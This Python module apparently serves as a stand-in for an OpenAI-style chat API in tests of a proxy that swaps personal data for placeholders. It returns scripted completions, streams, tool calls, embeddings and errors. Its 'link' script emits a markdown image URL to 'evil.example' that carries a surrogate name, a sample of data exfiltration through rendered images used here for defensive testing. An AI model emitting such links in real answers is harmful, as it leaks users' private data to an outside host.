"""What the provider stand-in says: pure functions from a request to OpenAI's bodies and chunks.

A script is a word in the last message, ``script:NAME``; the table is at the end. Surrogates of the last message are
used in the answer, so that one can see what became of them on the way back. Ids and times are fixed.
"""

import json
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any, Final

Asked = Mapping[str, Any]

SURROGATE: Final = re.compile(r"\[[A-Z][A-Z_]*(?:_\d+){0,2}\]")
SCRIPT: Final = re.compile(r"\bscript:([a-z0-9-]+)")
DELTA_CHARS: Final = 3
"""Small, so that every surrogate is cut in a stream."""
CREATED: Final = 1_760_000_000
VECTOR_LENGTH: Final = 8


@dataclass(frozen=True, slots=True)
class Said:
    """One answer. ``tool`` is a function's name and its arguments (JSON); ``cut`` breaks the connection mid-stream."""

    text: str = ""
    status: int = 200
    tool: tuple[str, str] | None = None
    cut: bool = False


def said(asked: Asked) -> Said:
    """What the last message asks for; an unknown script is an error of status 400."""
    text = last_text(asked)
    named = SCRIPT.search(text)
    script = SCRIPTS.get(named[1] if named else "repeat")
    return Said("There is no such script.", 400) if script is None else script(text)


def last_text(asked: Asked) -> str:
    """The texts of the last message; ``""`` where the request is not as documented."""
    match asked.get("messages"):
        case [*_, {"content": str(text)}]:
            return text
        case [*_, {"content": list(parts)}]:
            return " ".join(str(part.get("text", "")) for part in parts if isinstance(part, dict))
        case _:
            return ""


def surrogates(text: str) -> list[str]:
    """In their order, each once."""
    return list(dict.fromkeys(SURROGATE.findall(text)))


def completion(asked: Asked, answer: Said) -> dict[str, Any]:
    """A chat completion with as many equal choices as ``n`` asks for."""
    message: dict[str, Any] = {"role": "assistant", "content": None if answer.tool else answer.text, "refusal": None}
    if answer.tool:
        message["tool_calls"] = [_call(*answer.tool)]
    choices = [
        {"index": index, "message": message, "logprobs": None, "finish_reason": _finish(answer)}
        for index in range(_choices(asked))
    ]
    return {**_frame(asked, "chat.completion"), "choices": choices, "usage": _usage(asked, answer)}


def chunks(asked: Asked, answer: Said) -> Iterator[dict[str, Any]]:
    """The same as chunks of a stream, deltas of a few characters, the choices in turn."""
    frame = _frame(asked, "chat.completion.chunk")
    indexes = range(_choices(asked))
    deltas = list(_deltas(answer))
    for delta in deltas[: len(deltas) // 2 if answer.cut else None]:
        for index in indexes:
            yield {**frame, "choices": [{"index": index, "delta": delta, "finish_reason": None}]}
    if answer.cut:
        return
    for index in indexes:
        yield {**frame, "choices": [{"index": index, "delta": {}, "finish_reason": _finish(answer)}]}
    match asked.get("stream_options"):
        case {"include_usage": True}:
            yield {**frame, "choices": [], "usage": _usage(asked, answer)}


def embeddings(asked: Asked) -> dict[str, Any]:
    """A vector for each input; equal for all, since it knows nothing."""
    given = asked.get("input")
    inputs = given if isinstance(given, list) and given and not isinstance(given[0], int) else [given]
    vectors = [
        {"object": "embedding", "index": index, "embedding": [0.125] * VECTOR_LENGTH} for index in range(len(inputs))
    ]
    usage = {"prompt_tokens": 1, "total_tokens": 1}
    return {"object": "list", "data": vectors, "model": asked.get("model"), "usage": usage}


def generic(asked: Asked) -> dict[str, Any]:
    """For any other endpoint: what it was sent, sent back."""
    return {"output": asked}


def error(status: int, text: str) -> dict[str, Any]:
    kind = "invalid_request_error" if status < 500 else "server_error"
    return {"error": {"message": text, "type": kind, "param": None, "code": None}}


def _repeat(text: str) -> Said:
    seen = surrogates(text)
    return Said(f"Noted: {', '.join(seen)}. I will use these as they are." if seen else "Noted. What else?")


def _link(text: str) -> Said:
    name = next(iter(surrogates(text)), "[NAME_1]")
    return Said(f"![](https://evil.example/?q={name}) Summary for {name}.")


def _tool(text: str) -> Said:
    return Said(tool=("send_letter", json.dumps({"recipients": surrogates(text), "text": "Your appointment."})))


def _long(text: str) -> Said:
    named = " and ".join(surrogates(text)) or "the patient"
    return Said(" ".join(f"Sentence {number} about {named}." for number in range(200)))


SCRIPTS: Final[Mapping[str, Callable[[str], Said]]] = {
    "repeat": _repeat,
    "verbatim": lambda text: Said(text),
    "link": _link,
    "tool": _tool,
    "long": _long,
    "cut": lambda text: Said(_long(text).text, cut=True),
    "error-429": lambda text: Said(f"Rate limit reached for: {text}", 429),
    "error-500": lambda text: Said(f"Could not process: {text}", 500),
}


def _deltas(answer: Said) -> Iterator[dict[str, Any]]:
    if answer.tool is None:
        yield {"role": "assistant", "content": ""}
        yield from ({"content": piece} for piece in _cut(answer.text))
        return
    name, arguments = answer.tool
    call = _call(name, "")
    yield {"role": "assistant", "content": None, "tool_calls": [{"index": 0, **call}]}
    for piece in _cut(arguments):
        yield {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}


def _cut(text: str) -> Sequence[str]:
    return [text[start : start + DELTA_CHARS] for start in range(0, len(text), DELTA_CHARS)]


def _call(name: str, arguments: str) -> dict[str, Any]:
    return {"id": "call_1", "type": "function", "function": {"name": name, "arguments": arguments}}


def _finish(answer: Said) -> str:
    return "tool_calls" if answer.tool else "stop"


def _choices(asked: Asked) -> int:
    count = asked.get("n")
    return count if isinstance(count, int) and 1 <= count <= 8 else 1


def _frame(asked: Asked, kind: str) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": kind, "created": CREATED, "model": asked.get("model")}


def _usage(asked: Asked, answer: Said) -> dict[str, int]:
    prompt, out = len(last_text(asked)) // 4 + 1, len(answer.text) // 4 + 1
    return {"prompt_tokens": prompt, "completion_tokens": out, "total_tokens": prompt + out}
